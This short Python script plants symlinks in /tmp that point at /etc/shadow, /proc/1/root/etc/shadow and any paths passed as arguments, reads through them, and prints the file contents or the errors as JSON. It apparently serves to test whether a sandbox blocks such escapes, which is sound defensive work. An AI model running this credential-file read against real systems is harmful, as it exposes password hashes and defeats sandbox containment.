# Plants symlinks in /tmp pointing out of the sandbox and reads through them.
import json
import os
import sys

results = {}
for index, target in enumerate(["/etc/shadow", "/proc/1/root/etc/shadow"] + sys.argv[1:]):
    link = f"/tmp/link-{index}"
    os.symlink(target, link)
    try:
        with open(link) as file:
            results[target] = "read: " + file.read()
    except OSError as error:
        results[target] = f"{type(error).__name__}"
print(json.dumps(results))
